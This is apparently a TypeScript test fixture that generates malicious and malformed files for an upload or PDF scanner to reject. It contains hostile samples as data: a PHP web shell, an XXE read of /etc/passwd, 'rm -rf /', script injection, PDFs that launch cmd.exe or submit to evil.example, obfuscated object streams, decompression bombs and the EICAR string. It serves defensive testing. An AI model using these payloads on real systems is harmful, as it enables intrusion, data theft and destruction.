import { deflateSync, gzipSync } from 'node:zlib'

/** Forty-odd files that nobody may get in, made here so that none lies in the project. */
export const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')

const text = (words: string) => Buffer.from(words, 'latin1')
const bytes = (...values: number[]) => Buffer.from(values)

interface PdfParts {
  objects?: string
  trailer?: string
  tail?: string
}
/** A PDF of one empty page, with more objects or another trailer. */
export function pdf({ objects = '', trailer = '', tail = '' }: PdfParts = {}): Buffer {
  const page = '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n'
  const head = '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n'
  return text(`${head}${page}${objects}trailer\n<< /Root 1 0 R ${trailer} >>\n%%EOF\n${tail}`)
}

const hiddenScript = '9 0 << /S /JavaScript /JS (app.alert(1)) >>'
const objectStream = (hidden: Buffer, filter: string | null = '/FlateDecode', type = '/ObjStm') =>
  Buffer.concat([
    text('%PDF-1.7\n3 0 obj\n<< /Type /Page >>\nendobj\n4 0 obj\n'),
    text(`<< /Type ${type} /N 1 /First 4 ${filter === null ? '' : `/Filter ${filter}`} >>\nstream\n`),
    hidden,
    text('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
  ])

const crc = (data: Buffer) => {
  let value = ~0
  for (const byte of data) {
    value ^= byte
    for (let bit = 0; bit < 8; bit++) value = value & 1 ? (value >>> 1) ^ 0xed_b8_83_20 : value >>> 1
  }
  return ~value >>> 0
}
const chunk = (kind: string, data: Buffer) => {
  const body = Buffer.concat([text(kind), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc(body))
  return Buffer.concat([length, body, sum])
}
/** A grey PNG of that size whose pixels take a few bytes, or are missing. */
export function pngOf(width: number, height: number, { pixels = true } = {}): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 0, 0, 0, 0], 8)
  const data = pixels ? deflateSync(Buffer.alloc(Math.min((width + 1) * height, 40_000_000))) : Buffer.alloc(0)
  const signature = bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a)
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))])
}

const manyPages = Array.from({ length: 30 }, (_, n) => `${n + 10} 0 obj\n<< /Type /Page >>\nendobj\n`).join('')
const action = (words: string) => pdf({ objects: `9 0 obj\n<< /Type /Action ${words} >>\nendobj\n` })

const address = '/Type /Action /S /URI /URI (https://evil.example)'
/** A catalog that says what opening the file does. */
const opening = (what: string, objects = '') => `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ${what} >>\nendobj\n${objects}`

/** What ordinary writers of PDFs do, and nobody is harmed by. */
export const goodPdfs: [name: string, content: Buffer][] = [
  ['a link to tap', pdf({ objects: `9 0 obj\n<< /Type /Annot /Subtype /Link /A << ${address} >> >>\nendobj\n` })],
  ['a page to open at', pdf({ objects: opening('[3 0 R /Fit]', `9 0 obj\n<< ${address} >>\nendobj\n`) })],
  [
    'an action that leads to a page',
    pdf({ objects: opening('9 0 R', `9 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n8 0 obj\n<< ${address} >>\nendobj\n`) }),
  ],
  [
    'the same, packed',
    Buffer.concat([
      pdf({ objects: opening('9 0 R', `8 0 obj\n<< ${address} >>\nendobj\n`) }).subarray(0, -6),
      objectStream(deflateSync('9 0 << /S /GoTo /D [3 0 R /Fit] >>')),
    ]),
  ],
  [
    'an outline',
    pdf({
      objects:
        '9 0 obj\n<< /Type /Outlines /First 8 0 R /Title (Downstream (100%) endobj) >>\nendobj\n8 0 obj\n<< >>\nstream\n/F1 12 Tf\nendstream\nendobj\n',
    }),
  ],
]

export const badFiles: [name: string, content: Buffer][] = [
  ['page.html', text('<!doctype html><script>alert(1)</script>')],
  ['picture.svg', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['picture.svgz', gzipSync('<svg xmlns="http://www.w3.org/2000/svg"/>')],
  ['feed.xml', text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')],
  ['script.js', text('alert(1)')],
  ['run.sh', text('#!/bin/sh\nrm -rf /\n')],
  ['shell.php.jpg', text('<?php system($_GET[0]); ?>')],
  ['data.json', text('{"a":1}')],
  ['empty.pdf', Buffer.alloc(0)],
  ['one.jpg', bytes(0xff)],
  ['zeros.png', Buffer.alloc(5000)],
  ['program.exe', Buffer.concat([text('MZ'), Buffer.alloc(200)])],
  ['program.elf', Buffer.concat([bytes(0x7f), text('ELF'), Buffer.alloc(200)])],
  ['Hello.class', bytes(0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52, 0, 0)],
  ['code.wasm', bytes(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0)],
  ['archive.zip', text('PK\u0003\u0004\u0014\u0000\u0000\u0000\u0008\u0000')],
  ['paper.docx', text('PK\u0003\u0004\u0014\u0000\u0006\u0000[Content_Types].xml')],
  ['archive.gz', gzipSync(Buffer.alloc(1_000_000))],
  ['archive.7z', bytes(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4)],
  ['archive.rar', text('Rar!\u001a\u0007\u0001\u0000')],
  ['moving.gif', text('GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;')],
  ['old.bmp', text('BM\u001e\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u001a\u0000\u0000\u0000')],
  ['scan.tiff', bytes(0x49, 0x49, 0x2a, 0, 8, 0, 0, 0)],
  ['icon.ico', bytes(0, 0, 1, 0, 1, 0, 16, 16)],
  ['film.mp4', text('\u0000\u0000\u0000\u0018ftypisom\u0000\u0000\u0002\u0000isomiso2')],
  ['photo.heic', text('\u0000\u0000\u0000\u0018ftypheic\u0000\u0000\u0000\u0000mif1heic')],
  ['huge.png', pngOf(50_000, 50_000)],
  ['wide.png', pngOf(60_000_000, 1)],
  ['hollow.png', pngOf(300, 300, { pixels: false })],
  ['cut.jpg', bytes(0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1)],
  ['fake.jpg', Buffer.concat([bytes(0xff, 0xd8, 0xff, 0xe0), text('<script>alert(1)</script>')])],
  ['locked.pdf', pdf({ trailer: '/Encrypt 8 0 R' })],
  ['script.pdf', action('/S /JavaScript /JS (app.alert(1))')],
  ['disguised.pdf', action('/S /J#61v#61Script')],
  ['launch.pdf', action('/S /Launch /F (cmd.exe)')],
  ['form.pdf', action('/S /SubmitForm /F (https://evil.example)')],
  ['carrier.pdf', pdf({ objects: '9 0 obj\n<< /Type /EmbeddedFile >>\nstream\nMZ\nendstream\nendobj\n' })],
  ['server.pdf', action('/S /GoToR /F (\\\\\\\\evil.example\\\\share)')],
  ['server-in-hex.pdf', action('/S /GoTo /F <5c5c6576696c>')],
  ['filespec.pdf', pdf({ objects: '9 0 obj\n<< /Type /Filespec /EF << /F 8 0 R >> >>\nendobj\n' })],
  ['hidden-server.pdf', objectStream(deflateSync('9 0 << /S /GoToR /D [0 /Fit] >>'))],
  ['opens-address.pdf', pdf({ objects: opening('9 0 R', `9 0 obj\n<< ${address} >>\nendobj\n`) })],
  ['opens-address-at-once.pdf', pdf({ objects: opening(`<< ${address} >>`) })],
  ['opens-address-next.pdf', pdf({ objects: opening(`<< /S /GoTo /D [3 0 R /Fit (>>)] /Next << ${address} >> >>`) })],
  ['opens-address-with-page.pdf', pdf({ objects: `9 0 obj\n<< /Type /Page /AA << /O << ${address} >> >> >>\nendobj\n` })],
  [
    'opens-hidden-address.pdf',
    Buffer.concat([pdf({ objects: opening('9 0 R') }).subarray(0, -6), objectStream(deflateSync(`9 0 << ${address} >>`))]),
  ],
  ['unlabelled.pdf', objectStream(deflateSync(hiddenScript), '/FlateDecode', '/Font')],
  ['nameless.pdf', Buffer.from(objectStream(deflateSync(hiddenScript)).toString('latin1').replace('/Type /ObjStm ', ''), 'latin1')],
  ['knotted-outline.pdf', pdf({ objects: `9 0 obj\n${'/First endobj '.repeat(600_000)}` })],
  ['opens-much.pdf', pdf({ objects: `9 0 obj\n<< ${address} >>\nendobj\n${'/OpenAction 9 0 R '.repeat(300_000)}` })],
  ['xfa.pdf', action('/XFA 9 0 R')],
  ['hidden.pdf', objectStream(deflateSync(hiddenScript))],
  ['commented.pdf', pdf({ objects: '%stream\n9 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n%endstream\n' })],
  ['renamed.pdf', objectStream(deflateSync(hiddenScript), '/FlateDecode', '/Obj#53tm')],
  ['unpacked.pdf', objectStream(text(hiddenScript), null)],
  ['twice.pdf', objectStream(deflateSync(deflateSync(hiddenScript)), '[/FlateDecode /FlateDecode]')],
  ['filters.pdf', objectStream(deflateSync(deflateSync(hiddenScript)), '/FlateDecode /Filter [/FlateDecode /FlateDecode]')],
  ['predicted.pdf', objectStream(deflateSync('odd'), '/FlateDecode /DecodeParms << /Predictor 12 >>')],
  ['decoy.pdf', objectStream(deflateSync(hiddenScript), '/FlateDecode /X (stream\nendstream)')],
  ['knotted.pdf', pdf({ objects: `9 0 obj\n${'/ObjStm '.repeat(1_000_000)}streamendstream` })],
  ['packed.pdf', objectStream(text('odd'), '/LZWDecode')],
  ['bomb.pdf', objectStream(deflateSync(Buffer.alloc(64 * 1024 * 1024)))],
  ['long.pdf', pdf({ objects: manyPages })],
  ['endless.pdf', text('%PDF-1.7\n1 0 obj\n<< /Type /Page >>\nendobj\n')],
  ['late.pdf', Buffer.concat([text('junk'), pdf()])],
  ['two-in-one.pdf', pdf({ tail: `PK\u0003\u0004${'x'.repeat(3000)}` })],
  ['eicar.com', text(eicar)],
  ['eicar.pdf', pdf({ objects: `% ${eicar}\n` })],
]
